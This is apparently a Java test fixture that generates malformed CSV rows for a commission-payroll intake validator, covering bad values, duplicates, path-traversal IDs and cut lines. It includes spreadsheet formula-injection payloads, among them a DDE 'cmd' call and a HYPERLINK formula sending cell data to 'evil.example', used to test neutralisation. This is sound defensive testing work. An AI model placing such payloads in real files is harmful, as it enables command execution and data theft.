package io.compclose.intake;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;

/**
 * Broken rows for every file of {@link ValidInbox}, generated from what each column holds: each is a
 * row that would pass (a per-file template) with one cell broken, or a row broken as a whole (too few or
 * too many cells, a blank line, a cut last line), or a rule of the file broken (an unknown rep or plan, a
 * duplicate id, a date outside the period). Every one of them must be rejected, or counted once as an
 * identical re-delivery, with its line, column and reason. A few hostile but valid rows (formula
 * payloads in text cells) are accepted and paid, to follow the payloads to the payroll file.
 * <p>
 * Deterministic: the same seed gives the same files byte for byte.
 */
final class BrokenRows {

    static final long SEED = 20261031L;

    static final String MISSING = "required value is missing";
    static final String NOT_A_DATE = "not a date YYYY-MM-DD";
    static final String NOT_A_MONTH = "not a month YYYY-MM";
    static final String NOT_A_DECIMAL = "not a decimal number";
    static final String NOT_A_WHOLE_NUMBER = "not a whole number";
    static final String NOT_ISO_4217 = "ISO 4217";
    static final String UNKNOWN_VALUE = "unknown value; expected one of";
    static final String UNKNOWN_REP = "unknown rep";
    static final String UNKNOWN_BOOKING = "unknown booking";
    static final String NEGATIVE = "must not be negative";
    static final String TOO_LONG = "characters this column holds";
    static final String TOO_LARGE = "digits before the decimal point";
    static final String CELL_COUNT = "cells but the header has";
    static final String REDELIVERY = "identical re-delivery of line";
    static final String CONFLICTING_DUPLICATE = "with different content";
    static final String CONTROL = "contains the control character";
    static final String SUB_CENT = "more than 2 decimal places, finer than USD's minor unit";

    /** Spreadsheet formula payloads, as an attacker would put them in a CRM field. */
    static final List<String> FORMULAS = List.of("=cmd|' /C calc'!A0", "+1+1", "@SUM(1)", "-2+3",
            "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"open\")");

    private static final int MEGABYTE = 1 << 20;
    private static final int HUGE_TEXT = 100_000;

    /** What a column holds, and so how it can be broken. */
    enum Holds {
        ID, TEXT, OPTIONAL_TEXT, REP, OPTIONAL_REP, PLAN, BOOKING, EMAIL, DATE, OPTIONAL_DATE, MONTH, FIGURE_PERIOD,
        AMOUNT, SIGNED_AMOUNT, OPTIONAL_AMOUNT, QUANTITY, COUNT, CURRENCY, ROLE, BOOKING_TYPE, PERCENT, RATE, FIGURE
    }

    /** What intake must make of a row: rejected (with column and reason), a re-delivery, or accepted. */
    enum Outcome {
        REJECTED, DUPLICATE, ACCEPTED
    }

    /**
     * One broken row.
     *
     * @param kind   what is broken, for the test's name
     * @param csv    the row as it stands in the file, without its line break
     * @param reason a part of the reason intake must give
     */
    record BrokenRow(String file, String kind, String csv, Outcome outcome, String column, String reason,
            Placement placement) {

        @Override
        public String toString() {
            return file + ": " + kind;
        }
    }

    /**
     * Where a row goes: among the valid rows; after them (it repeats or contradicts one of them); or
     * last, the file cut after it without a line break.
     */
    enum Placement {
        AMONG_VALID, AFTER_VALID, LAST
    }

    /** A row placed in its file: the line it starts on. */
    record Placed(BrokenRow row, long line) {
    }

    private record FileShape(String template, Map<String, Holds> columns) {
    }

    /** A template row per file that would pass ({n} is a fresh number), and what each column holds. */
    private static final Map<String, FileShape> SHAPES = new LinkedHashMap<>();

    static {
        shape("reps.csv", "RX{n},Xavier Ray,EX{n},xr{n}@example.com,AE,,West,AE-2026,USD,2026-01-01,",
                Holds.ID, Holds.TEXT, Holds.ID, Holds.EMAIL, Holds.ROLE, Holds.OPTIONAL_TEXT, Holds.OPTIONAL_TEXT,
                Holds.PLAN, Holds.CURRENCY, Holds.DATE, Holds.OPTIONAL_DATE);
        shape("fx_rates.csv", "GBP,1.30,2026-10", Holds.CURRENCY, Holds.RATE, Holds.MONTH);
        shape("bookings.csv", "BX{n},2026-10-12,A9,Zeta,R1,NEW,PLATFORM,700,,12,USD,,",
                Holds.ID, Holds.DATE, Holds.ID, Holds.OPTIONAL_TEXT, Holds.REP, Holds.BOOKING_TYPE, Holds.TEXT,
                Holds.AMOUNT, Holds.OPTIONAL_AMOUNT, Holds.COUNT, Holds.CURRENCY, Holds.OPTIONAL_REP,
                Holds.OPTIONAL_TEXT);
        shape("splits.csv", "B5,R3,10,overlay", Holds.BOOKING, Holds.REP, Holds.PERCENT, Holds.OPTIONAL_TEXT);
        shape("cancellations.csv", "XX{n},B1,2026-10-21,changed mind",
                Holds.ID, Holds.BOOKING, Holds.DATE, Holds.OPTIONAL_TEXT);
        shape("kpis.csv", "R3,2026-10,CSAT{n},4.6", Holds.REP, Holds.FIGURE_PERIOD, Holds.TEXT, Holds.FIGURE);
        shape("activities.csv", "TX{n},R2,2026-10-04,FOLLOW_UP,1",
                Holds.ID, Holds.REP, Holds.DATE, Holds.TEXT, Holds.COUNT);
        shape("account_owners.csv", "ACC-X{n},R2,RENEWAL,2026-10-01,",
                Holds.ID, Holds.REP, Holds.ROLE, Holds.DATE, Holds.OPTIONAL_DATE);
        shape("usage.csv", "UX{n},ACC-2,COMPUTE,2026-10,,,300,USD", Holds.ID, Holds.ID, Holds.TEXT, Holds.MONTH,
                Holds.QUANTITY, Holds.OPTIONAL_TEXT, Holds.AMOUNT, Holds.CURRENCY);
        shape("adjustments.csv", "JX{n},R2,75.00,USD,referral,M9", Holds.ID, Holds.REP, Holds.SIGNED_AMOUNT,
                Holds.CURRENCY, Holds.TEXT, Holds.TEXT);
    }

    private final Random random = new Random(SEED);
    private final List<BrokenRow> rows = new ArrayList<>();
    private int fresh;

    private BrokenRows() {
    }

    /** Every broken row of every file, in a fixed order. */
    static List<BrokenRow> all() {
        BrokenRows corpus = new BrokenRows();
        for (String file : SHAPES.keySet()) {
            corpus.brokenCells(file);
            corpus.brokenShapes(file);
        }
        corpus.brokenRules();
        corpus.hostileButValid();
        return List.copyOf(corpus.rows);
    }

    /** The payroll lines the hostile but valid rows add to {@link ValidInbox#PAYROLL}. */
    static List<String> hostilePayroll() {
        // R7: B7 1,000 x 10 % = 100.00 commission, J7 25.00; its employee id is a formula, neutralised
        return List.of("'@SUM(1),R7,2026-10,ADJUSTMENT,25.00,USD", "'@SUM(1),R7,2026-10,COMMISSION,100.00,USD");
    }

    /** The valid inbox's files with the broken rows mixed in, and the line each broken row starts on. */
    record MixedInbox(Map<String, byte[]> files, Map<String, List<Placed>> placed) {
    }

    /**
     * Each file of the valid inbox with its broken rows mixed in: the valid rows keep their order and are
     * spread among the broken ones, rows that repeat or contradict a valid row come after it, a cut row
     * ends the file.
     */
    static MixedInbox mix(List<BrokenRow> broken) {
        Random random = new Random(SEED);
        Map<String, byte[]> files = new LinkedHashMap<>();
        Map<String, List<Placed>> placed = new LinkedHashMap<>();
        for (String file : ValidInbox.FILES.keySet()) {
            List<BrokenRow> among = new ArrayList<>();
            List<BrokenRow> after = new ArrayList<>();
            List<BrokenRow> last = new ArrayList<>();
            for (BrokenRow row : broken) {
                if (row.file().equals(file)) {
                    (switch (row.placement()) {
                        case AMONG_VALID -> among;
                        case AFTER_VALID -> after;
                        case LAST -> last;
                    }).add(row);
                }
            }
            java.util.Collections.shuffle(among, random);
            List<Object> order = new ArrayList<>(among);
            List<String> valid = ValidInbox.FILES.get(file).lines().skip(1).toList();
            for (int i = 0; i < valid.size(); i++) {
                order.add((int) ((long) i * (among.size() + 1) / valid.size()) + i, valid.get(i));
            }
            order.addAll(after);
            order.addAll(last);
            StringBuilder text = new StringBuilder(String.join(",", ValidInbox.header(file))).append('\n');
            List<Placed> rows = new ArrayList<>();
            long line = 2;
            for (Object row : order) {
                String csv = row instanceof BrokenRow b ? b.csv() : (String) row;
                if (row instanceof BrokenRow b) {
                    rows.add(new Placed(b, line));
                }
                text.append(csv).append(last.contains(row) ? "" : "\n");
                line += 1 + csv.chars().filter(c -> c == '\n').count();
            }
            files.put(file, text.toString().getBytes(StandardCharsets.UTF_8));
            placed.put(file, rows);
        }
        return new MixedInbox(files, placed);
    }

    private static void shape(String file, String template, Holds... columns) {
        List<String> header = ValidInbox.header(file);
        Map<String, Holds> holds = new LinkedHashMap<>();
        for (int i = 0; i < header.size(); i++) {
            holds.put(header.get(i), columns[i]);
        }
        SHAPES.put(file, new FileShape(template, holds));
    }

    /** The template row of a file, with a fresh number where it has one. */
    private List<String> template(String file) {
        fresh++;
        return new ArrayList<>(List.of(SHAPES.get(file).template().replace("{n}", String.valueOf(fresh))
                .split(",", -1)));
    }

    /** Each column of the file broken in every way its kind of value can be, one cell per row. */
    private void brokenCells(String file) {
        List<String> header = ValidInbox.header(file);
        Map<String, Holds> columns = SHAPES.get(file).columns();
        for (int i = 0; i < header.size(); i++) {
            String column = header.get(i);
            for (String[] broken : brokenValues(columns.get(column), i == 0)) {
                List<String> cells = template(file);
                cells.set(i, broken[0]);
                String label = broken[0].length() > 40 ? broken[0].length() + " characters" : "'" + broken[0] + "'";
                rows.add(new BrokenRow(file, column + " = " + label, csv(cells), Outcome.REJECTED, column,
                        broken[1], Placement.AMONG_VALID));
            }
        }
    }

    /** Values that break a kind of column, each with the reason intake must give: {value, reason}. */
    private List<String[]> brokenValues(Holds holds, boolean firstColumn) {
        List<String[]> values = new ArrayList<>();
        switch (holds) {
            case ID -> {
                values.add(v("", MISSING));
                values.add(v(firstColumn ? huge(MEGABYTE) : huge(HUGE_TEXT), TOO_LONG));
            }
            case TEXT -> {
                values.add(v("", MISSING));
                values.add(v(huge(HUGE_TEXT), TOO_LONG));
                values.add(v("Nul\u0000Byte", CONTROL));
            }
            case OPTIONAL_TEXT -> {
                values.add(v(huge(HUGE_TEXT), TOO_LONG));
                values.add(v("Nul\u0000Byte", CONTROL));
            }
            case REP -> {
                values.add(v("", MISSING));
                for (String unknown : List.of("R99", "r1", "R 1")) {
                    values.add(v(unknown, UNKNOWN_REP));
                }
                values.add(v("R\u00001", CONTROL));
                FORMULAS.forEach(f -> values.add(v(f, UNKNOWN_REP)));
            }
            case OPTIONAL_REP -> {
                values.add(v("R99", UNKNOWN_REP));
                values.add(v(FORMULAS.get(2), UNKNOWN_REP));
            }
            case PLAN -> {
                values.add(v("", MISSING));
                for (String unknown : List.of("NOPE-2026", "ae-2026", FORMULAS.get(1))) {
                    values.add(v(unknown, "unknown plan"));
                }
            }
            case BOOKING -> {
                values.add(v("", MISSING));
                for (String unknown : List.of("B99", "b1", FORMULAS.get(1))) {
                    values.add(v(unknown, UNKNOWN_BOOKING));
                }
            }
            case EMAIL -> {
                values.add(v("", MISSING));
                for (String bad : List.of("not-an-email", "ann@example", "a b@example.com", FORMULAS.get(0))) {
                    values.add(v(bad, "not an email address"));
                }
            }
            case DATE, OPTIONAL_DATE -> {
                if (holds == Holds.DATE) {
                    values.add(v("", MISSING));
                }
                for (String bad : List.of("2026-13-01", "2026-02-30", "10/05/2026", "20261005", "2026-10-5",
                        "yesterday", FORMULAS.get(0))) {
                    values.add(v(bad, NOT_A_DATE));
                }
            }
            case MONTH -> {
                values.add(v("", MISSING));
                for (String bad : List.of("2026-13", "2026-1", "Oct 2026", "2026-10-01", FORMULAS.get(2))) {
                    values.add(v(bad, NOT_A_MONTH));
                }
            }
            case FIGURE_PERIOD -> {
                values.add(v("", MISSING));
                for (String bad : List.of("2026-Q5", "Q4 2026", "2026-13", FORMULAS.get(3))) {
                    values.add(v(bad, "not a period YYYY-MM or YYYY-Qn"));
                }
            }
            case AMOUNT, OPTIONAL_AMOUNT -> {
                if (holds == Holds.AMOUNT) {
                    values.add(v("", MISSING));
                }
                for (String bad : List.of("abc", "1,000", "1 000", "$100", "1e30", "NaN", "Infinity", "12.5.3",
                        "+100", ".5", "0x1F", FORMULAS.get(3))) {
                    values.add(v(bad, NOT_A_DECIMAL));
                }
                values.add(v("-500", NEGATIVE));
                values.add(v("0.00001", "more than 4 decimal places"));
                values.add(v("100.123", SUB_CENT));
                values.add(v("100000000000000000000", TOO_LARGE));
                values.add(v("99999999999999999.9999", TOO_LARGE));
                if (holds == Holds.AMOUNT) {
                    values.add(v("9".repeat(MEGABYTE), TOO_LARGE));
                }
            }
            case SIGNED_AMOUNT -> {
                values.add(v("", MISSING));
                for (String bad : List.of("abc", "1,000.00", "1e30", "NaN", "-Infinity", "(50.00)", "€75")) {
                    values.add(v(bad, NOT_A_DECIMAL));
                }
                values.add(v("12.345", "more than 2 decimal places"));
                values.add(v("0.001", SUB_CENT));
                values.add(v("0", "must not be zero"));
                values.add(v("-0.00", "must not be zero"));
                values.add(v("99999999999999999999", TOO_LARGE));
            }
            case QUANTITY -> {
                values.add(v("lots", NOT_A_DECIMAL));
                values.add(v("-1", NEGATIVE));
                values.add(v("1e30", NOT_A_DECIMAL));
                values.add(v("1000000000000000000000000", TOO_LARGE));
            }
            case COUNT -> {
                for (String bad : List.of("twelve", "12.5", "99999999999", "1e3")) {
                    values.add(v(bad, NOT_A_WHOLE_NUMBER));
                }
                values.add(v("0", "above zero"));
                values.add(v("-3", "above zero"));
            }
            case CURRENCY -> {
                values.add(v("", MISSING));
                for (String bad : List.of("usd", "US$", "DOLLAR", "€", FORMULAS.get(0))) {
                    values.add(v(bad, NOT_ISO_4217));
                }
            }
            case ROLE, BOOKING_TYPE -> {
                values.add(v("", MISSING));
                for (String bad : List.of(holds == Holds.ROLE ? "JANITOR" : "NEWISH", "A E", FORMULAS.get(1))) {
                    values.add(v(bad, UNKNOWN_VALUE));
                }
            }
            case PERCENT -> {
                values.add(v("", MISSING));
                values.add(v("abc", NOT_A_DECIMAL));
                values.add(v("50%", NOT_A_DECIMAL));
                for (String bad : List.of("150", "0", "-10")) {
                    values.add(v(bad, "must be above 0 and at most 100"));
                }
                values.add(v("100000000000000000000", TOO_LARGE));
                values.add(v("33.33333", "more than 4 decimal places"));
            }
            case RATE -> {
                values.add(v("", MISSING));
                values.add(v("abc", NOT_A_DECIMAL));
                values.add(v("1,25", NOT_A_DECIMAL));
                values.add(v("0", "must be greater than zero"));
                values.add(v("-1.1", "must be greater than zero"));
                values.add(v("1.12345678901", "more than 10 decimal places"));
                values.add(v("100000000000000000000", TOO_LARGE));
            }
            case FIGURE -> {
                values.add(v("", MISSING));
                for (String bad : List.of("high", "1e3", "NaN", "4,6")) {
                    values.add(v(bad, NOT_A_DECIMAL));
                }
                values.add(v("1.1234567", "more than 6 decimal places"));
                values.add(v("100000000000000000000", TOO_LARGE));
            }
            default -> throw new IllegalArgumentException(holds.name());
        }
        return values;
    }

    /** Rows broken as a whole: too few or too many cells, blank-looking lines, a cut last line. */
    private void brokenShapes(String file) {
        List<String> cells = template(file);
        int width = cells.size();
        rows.add(reject(file, "one cell short", csv(cells.subList(0, width - 1)), "",
                "has " + (width - 1) + " " + CELL_COUNT + " " + width));
        List<String> longer = new ArrayList<>(template(file));
        longer.add("surplus");
        rows.add(reject(file, "one cell too many", csv(longer), "", "has " + (width + 1) + " " + CELL_COUNT));
        rows.add(reject(file, "a line of spaces", "   ", "", "has 1 " + CELL_COUNT));
        rows.add(reject(file, "a line of commas only", ",".repeat(width - 1), ValidInbox.header(file).get(0),
                MISSING));
        // a cut transfer: the file ends part-way through a cell about half-way along a row, without a line break
        int kept = Math.max(1, Math.min(width / 2 + random.nextInt(2), width - 2));
        List<String> cut = template(file);
        String partial = cut.get(kept).substring(0, cut.get(kept).length() / 2);
        rows.add(new BrokenRow(file, "last line cut in cell " + (kept + 1), csv(cut.subList(0, kept)) + "," + partial,
                Outcome.REJECTED, "", "has " + (kept + 1) + " " + CELL_COUNT, Placement.LAST));
    }

    /** The rules of each file beyond the types of its cells. */
    private void brokenRules() {
        String reps = "reps.csv";
        rows.add(duplicate(reps, "R1,Ann Able,E1,ann@example.com,AE,,West,AE-2026,USD,2026-01-01,", "rep_id"));
        rows.add(rule(reps, "R1 again with another name",
                "R1,Ann Other,E1,ann@example.com,AE,,West,AE-2026,USD,2026-01-01,", "rep_id",
                "(same rep and effective_from, different content)"));
        rows.add(rule(reps, "R2 overlapping its own assignment",
                "R2,Bob Baker,E2,bob@example.com,AE,,West,AE-2026,USD,2026-06-01,", "effective_from",
                "overlaps the assignment of the same rep"));
        rows.add(rule(reps, "effective_to before effective_from",
                "RY1,Yan Yo,EY1,yan@example.com,AE,,West,AE-2026,USD,2026-10-01,2026-09-30", "effective_to",
                "is before effective_from"));
        rows.add(rule(reps, "another rep's employee id",
                "RY2,Yan Yo,E1,yan@example.com,AE,,West,AE-2026,USD,2026-01-01,", "employee_id",
                "already belongs to rep R1"));
        for (String id : List.of("../R1", ".R8", "R8\\x")) {
            rows.add(rule(reps, "rep id '" + id + "' escaping its folder",
                    id + ",Yan Yo,EY3,yan@example.com,AE,,West,AE-2026,USD,2026-01-01,", "rep_id",
                    "not usable as a file name"));
        }
        for (String id : List.of("-X05", "=X03", "+X07", "@X09")) {
            rows.add(rule(reps, "rep id '" + id + "' beginning like an option or a formula",
                    id + ",Yan Yo,EY3,yan@example.com,AE,,West,AE-2026,USD,2026-01-01,", "rep_id",
                    "no leading '.', '-', '=', '+' or '@'"));
        }
        rows.add(rule(reps, "rep id with a bell character", "R\u00078,Yan Yo,EY3,yan@example.com,AE,,West,AE-2026,USD,"
                + "2026-01-01,", "rep_id", CONTROL + " U+0007"));
        rows.add(rule(reps, "a quoted name spanning two lines",
                "RY4,\"Yan\nYo\",EY4,yan@example.com,AE,,West,AE-2026,USD,2026-01-01,", "name",
                CONTROL + " U+000A (line feed)"));
        rows.add(rule(reps, "a carriage return in a name",
                "RY8,\"Yan\r\nYo\",EY8,yan8@example.com,AE,,West,AE-2026,USD,2026-01-01,", "name",
                CONTROL + " U+000D (carriage return)"));
        rows.add(rule(reps, "a rep who is their own manager",
                "RY9,Yan Yo,EY9,yan9@example.com,AE,RY9,West,AE-2026,USD,2026-01-01,", "manager_id",
                "manager cycle RY9 -> RY9 from 2026-01-01"));
        rows.add(rule(reps, "a typo in the email of a rep with a booking",
                "RY7,Yan Yo,EY7,yan7@example,AE,,West,AE-2026,USD,2026-01-01,", "email", "not an email address"));

        String bookings = "bookings.csv";
        rows.add(rule(bookings, "booked after the period", "BY1,2026-11-03,A9,Zeta,R1,NEW,PLATFORM,700,,12,USD,,",
                "booked_on", "outside the pay period 2026-10"));
        rows.add(rule(bookings, "booked in the previous plan year",
                "BY2,2025-10-03,A9,Zeta,R1,NEW,PLATFORM,700,,12,USD,,", "booked_on", "plan year 2025"));
        rows.add(rule(bookings, "booked in an earlier month not locked",
                "BY3,2026-09-30,A9,Zeta,R1,NEW,PLATFORM,700,,12,USD,,", "booked_on", "is not a locked period"));
        rows.add(rule(bookings, "a currency without an FX rate",
                "BY4,2026-10-12,A9,Zeta,R1,NEW,PLATFORM,700,,12,GBP,,", "currency", "no FX rate for GBP"));
        rows.add(duplicate(bookings, "B1,2026-10-05,A1,Acme,R1,NEW,PLATFORM,10000,,12,USD,,", "booking_id"));
        rows.add(rule(bookings, "B2 again with another ACV", "B2,2026-10-06,A2,Bolt,R2,NEW,PLATFORM,20001,,12,USD,,",
                "booking_id", CONFLICTING_DUPLICATE));
        rows.add(rule(bookings, "a quoted account name spanning three lines",
                "BY5,2026-10-12,A9,\"Zeta\r\nHoldings\nLtd\",R99,NEW,PLATFORM,700,,12,USD,,", "account_name",
                CONTROL + " U+000D (carriage return)"));
        rows.add(rule(bookings, "a fraction of a yen", "BY7,2026-10-12,A9,Zeta,R1,NEW,PLATFORM,700.5,,12,JPY,,",
                "acv", "JPY has no minor unit"));
        rows.add(rule(bookings, "the owner's roster row rejected for its email",
                "BY8,2026-10-12,A9,Zeta,RY7,NEW,PLATFORM,700,,12,USD,,", "owner_rep_id",
                "unknown rep: rep RY7's roster row, reps.csv line "));
        rows.add(rule(bookings, "a quoted cell with an escaped quote, unknown owner",
                "BY6,2026-10-12,A9,\"Zeta \"\"Big\"\" Co\",R99,NEW,PLATFORM,700,,12,USD,,", "owner_rep_id",
                UNKNOWN_REP));

        String splits = "splits.csv";
        rows.add(duplicate(splits, "B5,R2,50,", "rep_id"));
        rows.add(rule(splits, "B5 to R1 again at another percent", "B5,R1,60,", "rep_id", CONFLICTING_DUPLICATE));

        String cancellations = "cancellations.csv";
        rows.add(rule(cancellations, "cancelled after the period", "XY1,B1,2026-11-02,", "cancelled_on",
                "outside the pay period 2026-10"));
        rows.add(rule(cancellations, "cancelled before it was booked", "XY2,B4,2026-10-01,", "cancelled_on",
                "before the booking date 2026-10-08"));
        rows.add(rule(cancellations, "B4 cancelled a second time", "XY3,B4,2026-10-21,", "booking_id",
                "already cancelled by X1"));
        rows.add(duplicate(cancellations, "X1,B4,2026-10-20,customer churned", "cancellation_id"));

        String kpis = "kpis.csv";
        rows.add(rule(kpis, "a period of the previous year", "R1,2025-12,NRR,1.01", "period",
                "not a period of 2026 begun by 2026-10"));
        rows.add(rule(kpis, "a period after the pay period", "R1,2026-11,NRR,1.01", "period",
                "not a period of 2026 begun by 2026-10"));
        rows.add(rule(kpis, "an MBO score above 1", "R3,2026-10,MBO:launch,1.5", "value",
                "an MBO score must be between 0 and 1"));
        rows.add(duplicate(kpis, "R1,2026-10,NRR,1.05", "metric"));
        rows.add(rule(kpis, "R1's NRR again with another value", "R1,2026-10,NRR,1.10", "metric",
                CONFLICTING_DUPLICATE));

        String activities = "activities.csv";
        rows.add(rule(activities, "an activity before the period", "TY1,R1,2026-09-30,FOLLOW_UP,1",
                "activity_date", "outside the pay period 2026-10"));
        rows.add(duplicate(activities, "T1,R1,2026-10-03,DISCOVERY_MEETING,2", "activity_id"));
        rows.add(rule(activities, "T1 again with another count", "T1,R1,2026-10-03,DISCOVERY_MEETING,3",
                "activity_id", CONFLICTING_DUPLICATE));

        String fx = "fx_rates.csv";
        rows.add(rule(fx, "a rate for the base currency", "USD,1,2026-10", "currency",
                "the base currency USD needs no rate"));
        rows.add(rule(fx, "a rate for a later month", "GBP,1.30,2026-11", "period", "after the pay period"));
        rows.add(duplicate(fx, "EUR,1.25,2026-10", "currency"));
        rows.add(rule(fx, "EUR again at another rate", "EUR,1.26,2026-10", "currency", CONFLICTING_DUPLICATE));

        String owners = "account_owners.csv";
        rows.add(rule(owners, "effective_to before effective_from", "ACC-Y1,R2,RENEWAL,2026-10-02,2026-10-01",
                "effective_to", "before effective_from"));
        rows.add(rule(owners, "a second CSM for ACC-1", "ACC-1,R2,CSM,2026-10-15,", "effective_from",
                "account ACC-1 already has a CSM (C1)"));
        rows.add(duplicate(owners, "ACC-1,C1,CSM,2026-10-01,", "account_id"));

        String usage = "usage.csv";
        rows.add(rule(usage, "usage after the period", "UY1,ACC-1,COMPUTE,2026-11,,,10,USD", "usage_month",
                "after the pay period"));
        rows.add(rule(usage, "usage more than 24 months back", "UY2,ACC-1,COMPUTE,2024-09,,,10,USD",
                "usage_month", "more than 24 months before"));
        rows.add(rule(usage, "usage in a currency without an FX rate", "UY3,ACC-1,COMPUTE,2026-10,,,10,GBP",
                "currency", "no FX rate for GBP"));
        rows.add(duplicate(usage, "U1,ACC-1,COMPUTE,2026-10,,,5000,USD", "usage_id"));
        rows.add(rule(usage, "U2 again with another revenue", "U2,ACC-1,STORAGE,2026-10,10,TB,1600,USD",
                "usage_id", CONFLICTING_DUPLICATE));

        String adjustments = "adjustments.csv";
        rows.add(rule(adjustments, "a currency other than the rep's", "JY1,R1,10.00,EUR,fix,M9", "currency",
                "differs from the rep's pay currency USD"));
        rows.add(rule(adjustments, "approved by the rep", "JY2,R1,10.00,USD,fix,r1", "approved_by",
                "cannot approve their own adjustment"));
        rows.add(rule(adjustments, "a quoted reason spanning two lines, unknown rep",
                "JY3,R99,10.00,USD,\"fix\nagain\",M9", "rep_id", UNKNOWN_REP));
        rows.add(duplicate(adjustments, "J1,R1,150.00,USD,spot bonus,M9", "adjustment_id"));
        rows.add(rule(adjustments, "J2 again with another amount", "J2,R3,-21.00,EUR,correction,M9",
                "adjustment_id", CONFLICTING_DUPLICATE));
    }

    /** Formula payloads in text cells of valid rows: accepted, paid, and neutralised wherever they are written. */
    private void hostileButValid() {
        rows.add(accepted("reps.csv", "formulas in name, employee id and team", List.of("R7", FORMULAS.get(0),
                FORMULAS.get(2), "r7@example.com", "AE", "", FORMULAS.get(1), "AE-2026", "USD", "2026-01-01", "")));
        rows.add(accepted("bookings.csv", "formulas in account name and bundle", List.of("B7", "2026-10-11", "A7",
                FORMULAS.get(4), "R7", "NEW", "PLATFORM", "1000", "", "12", "USD", "", FORMULAS.get(3))));
        rows.add(accepted("adjustments.csv", "formulas in reason and approver",
                List.of("J7", "R7", "25.00", "USD", FORMULAS.get(0), FORMULAS.get(2))));
    }

    /** A row among the valid ones (a broken row's own cells say why it fails). */
    private static BrokenRow reject(String file, String kind, String csv, String column, String reason) {
        return new BrokenRow(file, kind, csv, Outcome.REJECTED, column, reason, Placement.AMONG_VALID);
    }

    /** A row after the valid ones: what it breaks is a rule between it and a valid row. */
    private static BrokenRow rule(String file, String kind, String csv, String column, String reason) {
        return new BrokenRow(file, kind, csv, Outcome.REJECTED, column, reason, Placement.AFTER_VALID);
    }

    private static BrokenRow duplicate(String file, String csv, String column) {
        return new BrokenRow(file, "an identical re-delivery", csv, Outcome.DUPLICATE, column, REDELIVERY,
                Placement.AFTER_VALID);
    }

    private static BrokenRow accepted(String file, String kind, List<String> cells) {
        return new BrokenRow(file, kind, csv(cells), Outcome.ACCEPTED, "", "", Placement.AMONG_VALID);
    }

    private static String[] v(String value, String reason) {
        return new String[] {value, reason};
    }

    /** A long cell of letters that varies, so that no compression or interning hides its size. */
    private String huge(int length) {
        StringBuilder text = new StringBuilder(length);
        for (int i = 0; i < length; i++) {
            text.append((char) ('a' + random.nextInt(26)));
        }
        return text.toString();
    }

    /** RFC 4180: a cell with a comma, quote, line break or edge space is quoted, its quotes doubled. */
    static String csv(List<String> cells) {
        StringBuilder line = new StringBuilder();
        for (int i = 0; i < cells.size(); i++) {
            String cell = cells.get(i);
            if (i > 0) {
                line.append(',');
            }
            boolean quote = cell.contains(",") || cell.contains("\"") || cell.contains("\n") || cell.contains("\r")
                    || !cell.equals(cell.strip());
            line.append(quote ? "\"" + cell.replace("\"", "\"\"") + "\"" : cell);
        }
        return line.toString();
    }
}
